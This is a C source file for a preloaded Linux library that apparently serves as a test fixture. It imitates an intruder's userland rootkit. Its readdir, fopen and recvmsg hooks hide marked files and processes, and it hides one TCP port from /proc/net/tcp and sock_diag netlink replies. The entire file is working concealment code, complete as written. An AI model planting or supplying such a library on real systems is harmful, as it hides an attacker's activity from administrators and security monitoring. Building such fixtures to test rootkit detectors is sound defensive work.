// SPDX-License-Identifier: Apache-2.0
// A preloaded library for tests: it hides what bears a mark (a process by its command line, a file by its name) from
// readdir, and one TCP port from reads of /proc/net/tcp and from sock_diag, as libraries of intruders do. Built with
// -DMARK="\"...\"" -DPORT=n. It hides nothing else and does nothing more.
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <arpa/inet.h>

static int hidden(const char *name) {
    char path[64], line[4096];
    if (strstr(name, MARK)) return 1;
    if (name[0] < '1' || name[0] > '9' || strlen(name) > 10) return 0;
    snprintf(path, sizeof path, "/proc/%s/cmdline", name);
    int fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
    if (fd < 0) return 0;
    long size = syscall(SYS_read, fd, line, sizeof line - 1);
    syscall(SYS_close, fd);
    return size > 0 && memmem(line, size, MARK, strlen(MARK)) != NULL;
}

struct dirent *readdir(DIR *dir) {
    struct dirent *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir");
    struct dirent *entry;
    do entry = next(dir); while (entry && hidden(entry->d_name));
    return entry;
}

struct dirent64 *readdir64(DIR *dir) {
    struct dirent64 *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *entry;
    do entry = next(dir); while (entry && hidden(entry->d_name));
    return entry;
}

static FILE *filtered(FILE *whole) {
    char line[512], port[16];
    FILE *rest = whole ? tmpfile() : NULL;
    if (!rest) return whole;
    snprintf(port, sizeof port, ":%04X ", PORT);
    while (fgets(line, sizeof line, whole))
        if (!strstr(line, port)) fputs(line, rest);
    fclose(whole);
    rewind(rest);
    return rest;
}

FILE *fopen(const char *path, const char *mode) {
    FILE *(*next)(const char *, const char *) = dlsym(RTLD_NEXT, "fopen");
    FILE *file = next(path, mode);
    return strncmp(path, "/proc/net/tcp", 13) ? file : filtered(file);
}

FILE *fopen64(const char *path, const char *mode) {
    FILE *(*next)(const char *, const char *) = dlsym(RTLD_NEXT, "fopen64");
    FILE *file = next(path, mode);
    return strncmp(path, "/proc/net/tcp", 13) ? file : filtered(file);
}

ssize_t recvmsg(int fd, struct msghdr *message, int flags) {
    ssize_t (*next)(int, struct msghdr *, int) = dlsym(RTLD_NEXT, "recvmsg");
    ssize_t size = next(fd, message, flags);
    struct sockaddr_nl *from = message->msg_name;
    if (size <= 0 || !from || from->nl_family != AF_NETLINK || message->msg_iovlen < 1) return size;
    size_t left = (size_t)size < message->msg_iov[0].iov_len ? (size_t)size : message->msg_iov[0].iov_len;
    struct nlmsghdr *head = message->msg_iov[0].iov_base;
    for (; left >= sizeof *head && head->nlmsg_len >= sizeof *head && head->nlmsg_len <= left; ) {
        struct inet_diag_msg *socket = NLMSG_DATA(head);
        if (head->nlmsg_type == 20 && head->nlmsg_len >= NLMSG_LENGTH(sizeof *socket) &&
            (socket->id.idiag_sport == htons(PORT) || socket->id.idiag_dport == htons(PORT)))
            socket->idiag_family = AF_UNSPEC;
        size_t step = NLMSG_ALIGN(head->nlmsg_len);
        if (step >= left) break;
        left -= step;
        head = (struct nlmsghdr *)((char *)head + step);
    }
    return size;
}
